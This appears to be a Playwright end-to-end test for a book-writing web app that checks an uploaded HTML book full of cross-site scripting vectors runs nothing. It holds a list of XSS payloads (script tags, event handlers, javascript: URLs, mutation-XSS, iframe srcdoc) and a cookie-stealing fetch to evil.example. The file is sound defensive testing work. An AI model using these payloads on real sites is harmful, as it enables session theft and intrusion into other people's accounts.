import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { author, bringBook, openBrowser, openRoom, openWindow, signUp, type Window } from '../lib/browser.ts';
import { type House, openHouse } from '../lib/house.ts';
import { comeIn, type Person } from '../lib/people.ts';

// FAULTS 20: a book that somebody made to run a script in the browser of whoever opens it.

const run = "window.top.ran=(window.top.ran||[]).concat('it ran');fetch('https://evil.example/'+document.cookie)";
const tag = `<img src=x onerror="${run}">`;
const escaped = tag.replaceAll('<', '&lt;');

const vectors = [
  `<script>${run}</script>`,
  `<p onclick="${run}" onmouseover="${run}" style="background:url(javascript:${run})">Paragraph with handlers.</p>`,
  tag,
  `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe src="javascript:${run}" srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  `<p><a href="javascript:${run}">a link</a> <a href=" java\tscript:${run}">another</a>
   <a href="data:text/html,<script>${run}</script>">a third</a></p>`,
  `<form action="javascript:${run}"><button formaction="javascript:${run}">press</button></form>`,
  `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/y.css'; body{background:url(https://evil.example/z.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<details open ontoggle="${run}"><summary>more</summary></details>`,
  `<video autoplay onloadstart="${run}"><source onerror="${run}"></video>`,
  `<p>${escaped} written as text, and {{constructor.constructor('return 1')()}}.</p>`,
  `<p id="b-x"><img src="https://evil.example/pixel.png" alt='"><script>${run}</script>'></p>`,
].join('\n');

const html = `<!doctype html><html lang="en"><head><title>${escaped}</title>
<meta name="author" content='${tag.replaceAll("'", '&#39;')}'></head>
<body><h1>${escaped}</h1><p>An innocent paragraph.</p>${vectors}<h1>Second ${escaped}</h1><p>The end.</p></body></html>`;

describe('a book that is full of scripts', { timeout: 120_000 }, () => {
  let house: House;
  let browser: Browser;
  let window: Window;
  let page: Page;
  let person: Person;
  let book: string;
  const foreign: string[] = [];
  beforeAll(async () => {
    [house, browser] = await Promise.all([openHouse(), openBrowser()]);
    window = await openWindow(browser, house.url);
    page = window.page;
    page.context().on('request', (request) => {
      const { protocol, host } = new URL(request.url());
      if (protocol !== 'data:' && protocol !== 'blob:' && host !== new URL(house.url()).host)
        foreign.push(request.url());
    });
    page.on('dialog', (dialog) => {
      foreign.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await signUp(page, author('Mary'));
    const file = { name: 'hostile.html', mimeType: 'text/html', buffer: Buffer.from(html) };
    book = await bringBook(page, file);
    person = await comeIn(house.url, 'Mary');
    const params = { bookId: book };
    await person.content.updateBook({ params, body: { description: `About ${tag}`, authorName: `Mallory ${tag}` } });
    await person.content.createEdition({ params, body: { slug: 'hostile' } });
  });
  afterAll(async () => {
    await browser?.close();
    await house?.close();
  });

  /** Nothing ran, and nothing that could run is in the page. */
  const expectHarmless = async (): Promise<void> => {
    expect(await page.evaluate(() => (globalThis as { ran?: unknown }).ran)).toBeUndefined();
    const dangerous = await page.evaluate(() => {
      const handlers = [...document.querySelectorAll('body *')].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on')),
      );
      const links = [...document.querySelectorAll('[href],[src],[action],[formaction]')].filter((element) =>
        ['href', 'src', 'action', 'formaction'].some((name) =>
          // control characters and spaces within are skipped by browsers
          /^(?:javascript|data:text|vbscript)/i.test((element.getAttribute(name) ?? '').replaceAll(/[^!-~]/g, '')),
        ),
      );
      const frames = [
        ...document.querySelectorAll('#content :is(script, iframe, object, embed, form[action], base, link)'),
      ];
      return [...handlers, ...links, ...frames].map((element) => element.outerHTML.slice(0, 200));
    });
    expect(dangerous).toEqual([]);
    expect(foreign).toEqual([]);
  };

  /** Whatever waits for a hand gets one. */
  const touchEverything = async (area: string): Promise<void> => {
    for (const element of await page.locator(`${area} a, ${area} p, ${area} img, ${area} summary`).all()) {
      if (!(await element.isVisible())) continue;
      await element.hover({ force: true, timeout: 2000 }).catch(() => undefined);
      await element.dispatchEvent('click');
    }
  };

  it('runs none in the report, on the shelf and on the page of the book', async () => {
    await expectHarmless();
    await page.goto('/shelf');
    await page.getByRole('link', { name: 'Go on writing' }).waitFor();
    await expectHarmless();
    await page.goto(`/shelf/${book}`);
    await page.getByRole('treeitem').first().waitFor();
    expect(await page.getByRole('main').innerText()).toContain('onerror');
    await expectHarmless();
  });

  it('runs none in the writing room, wherever one clicks', async () => {
    const tree = await person.content.readTree({ params: { bookId: book } });
    for (const chapter of tree.children) {
      const text = await openRoom(page, `/write/${book}/${chapter.children[0]?.id}`);
      await text.locator('p').first().waitFor();
      await touchEverything('[role=textbox]');
      await expectHarmless();
    }
  });

  it('runs none on the public page and in the reader, wherever one clicks', async () => {
    await page.goto('/books');
    await page.getByRole('heading', { level: 1 }).waitFor();
    await expectHarmless();
    await page.goto('/books/hostile');
    await page.getByRole('link', { name: 'Read', exact: true }).waitFor();
    await expectHarmless();
    const { contents } = await person.content.readPublicBook({ params: { slug: 'hostile' } });
    for (const { id } of contents) {
      await page.goto(`/read/hostile/${id}`);
      await page.getByRole('main').locator('p').first().waitFor();
      await touchEverything('.aw-text');
      await expectHarmless();
    }
  });

  it('keeps the words of the book, as words', async () => {
    await page.goto('/read/hostile');
    await page.getByText('An innocent paragraph.').waitFor();
    expect(await page.locator('article').innerText()).toContain('<img src=x onerror=');
  });
});
